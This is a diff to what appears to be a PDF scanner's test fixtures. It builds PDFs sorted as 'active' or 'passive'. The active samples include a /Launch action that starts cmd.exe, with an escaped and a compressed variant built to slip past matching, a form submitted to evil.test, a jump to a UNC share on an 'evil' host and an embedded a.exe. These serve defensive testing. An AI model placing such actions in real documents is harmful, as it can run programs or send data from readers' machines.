@@ -42,6 +42,48 @@ export const scripted: Record<string, Buffer> = {
   'in a compressed object': pdf({ ...linked('5 0 R'), 5: 'null', 6: compressedObject(script) }),
 };
 
+const launch = '<< /S /Launch /F (cmd.exe) >>';
+const opened = (action: string) => pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` });
+const catalogued = (entry: string, more: Objects = {}) =>
+  pdf({ 1: `<< /Type /Catalog /Pages 2 0 R ${entry} >>`, ...more });
+
+/** PDFs without a script that start, send, fetch or carry something, by what it is. */
+export const active: Record<string, Buffer> = {
+  'a program to launch': opened(launch),
+  'a program to launch from a link': pdf(linked(launch)),
+  'a program to launch, spelled with escapes': opened(launch.replace('Launch', '#4caunch')),
+  'a program to launch in a compressed object': pdf({
+    ...linked('5 0 R'),
+    5: 'null',
+    6: compressedObject(launch),
+  }),
+  'a form that is sent away': pdf(linked('<< /S /SubmitForm /F (http://evil.test) >>')),
+  'data to import': pdf(linked('<< /S /ImportData /F (a.fdf) >>')),
+  'a jump to another file': opened('<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>'),
+  'a jump into an embedded file': opened('<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>'),
+  'an embedded file': catalogued('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', {
+    4: '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
+    5: '<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream',
+  }),
+  'a file pinned to the page': pdf({
+    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>',
+    4: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>',
+  }),
+  'an XFA form': catalogued('/AcroForm << /Fields [] /XFA 4 0 R >>', {
+    4: '<< /Length 1 >>\nstream\nx\nendstream',
+  }),
+  'an XFA form in parts': catalogued('/AcroForm << /Fields [] /XFA [(form) 4 0 R] >>', {
+    4: '<< /Length 1 >>\nstream\nx\nendstream',
+  }),
+};
+
+/** PDFs that only lead somewhere a reader asks about, by what it is. */
+export const passive: Record<string, Buffer> = {
+  'a link to a page of the web': pdf(linked('<< /S /URI /URI (https://tribunal.test) >>')),
+  'a jump within itself': pdf(linked('<< /S /GoTo /D [3 0 R /Fit] >>')),
+  'a form to fill': catalogued('/AcroForm << /Fields [] >>'),
+};
+
 function compressedObject(object: string): string {
   const index = '7 0 ';
   const body = deflateSync(index + object).toString('latin1');
